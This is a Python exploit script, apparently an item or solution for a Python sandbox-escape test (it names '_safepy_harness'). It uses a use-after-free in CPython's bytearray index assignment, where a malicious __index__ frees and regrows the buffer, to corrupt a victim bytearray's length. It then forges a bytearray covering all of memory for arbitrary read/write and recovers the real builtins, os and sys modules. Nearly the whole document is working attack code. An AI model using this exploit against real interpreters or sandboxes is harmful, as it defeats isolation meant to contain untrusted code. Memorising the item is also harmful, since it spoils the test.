# technique: ba[i] = X(): bytearray_ass_subscript (int-index path) reads buf = PyByteArray_AS_STRING(self) before _getbytevalue(value) calls X.__index__, which clears+regrows ba; the bounds check uses the new size but the byte is written to the stale buf -> one-byte write into a freed 64-byte block now holding a victim bytearray header (ob_size smashed) -> relative R/W -> forge a second bytearray (ob_bytes 0, size 2**60) -> arbitrary R/W -> real builtins/os/sys
# expect: any
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
BA_T = addr(bytearray)
drain = [bytearray(b"d" * 56) for _ in range(3000)]   # drain the 64-byte free lists: later blocks are carved upward
ba = bytearray(b"A" * 56)          # 57-byte buffer: a 64-byte block P
st = {}
class X:
    def __index__(self):
        ba.clear()                               # frees P; bytearray_ass_subscript still holds buf == P
        ba.extend(b"B" * 64)                     # new size 64 (> index), buffer elsewhere (80-byte class)
        st["victim"] = bytearray(b"v" * 56)      # header reuses P; its 57-byte buffer is carved next
        st["marks"] = [bytearray(0x1234 + i) for i in range(64)]  # headers carved after the buffer
        return 0x40
ba[16 + 6] = X()                   # writes 0x40 into byte 6 of victim.ob_size
victim = st["victim"]
print("victim len:", hex(len(victim)))
marks = st["marks"]
want = BA_T.to_bytes(8, "little")
found = None
for off in range(0, 1 << 16, 8):
    if victim[off + 8: off + 16] == want:
        sz = int.from_bytes(victim[off + 16: off + 24], "little")
        if 0x1234 <= sz < 0x1234 + 64:
            found = (off, marks[sz - 0x1234])
            break
off, W = found
print("found a bytearray header at victim buffer +", hex(off))
victim[off + 16: off + 24] = (1 << 60).to_bytes(8, "little")   # ob_size
victim[off + 24: off + 32] = (1 << 60).to_bytes(8, "little")   # ob_alloc
victim[off + 32: off + 48] = bytes(16)                          # ob_bytes = ob_start = 0
print("W len", hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
